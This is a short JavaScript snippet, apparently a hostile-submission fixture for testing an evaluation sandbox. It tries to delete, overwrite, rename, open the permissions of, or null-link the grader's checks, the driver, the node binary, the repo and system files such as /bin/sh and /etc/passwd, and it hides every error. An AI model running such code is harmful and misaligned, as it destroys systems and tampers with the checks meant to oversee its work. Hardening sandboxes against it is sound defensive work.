// Deletes or rewrites the checks, the driver, the environment and its own repository.
{
  const fs = process.getBuiltinModule('fs');
  const targets = ['/judge/checks', '/judge/kit', '/judge', '/drop/driver', '/drop/driver/driver-main.mjs', '/drop/driver/driver.mjs', '/drop/bin', '/env/node/bin/node', '/work/node_modules', '/work/repo', '/usr/bin', '/bin/sh', '/etc/passwd'];
  for (const target of targets) {
    for (const attack of [() => fs.rmSync(target, { recursive: true }), () => fs.writeFileSync(target, 'export default {}'), () => fs.renameSync(target, `${target}.old`), () => fs.chmodSync(target, 0o777), () => fs.symlinkSync('/dev/null', target)]) {
      try {
        attack();
      } catch {}
    }
  }
}
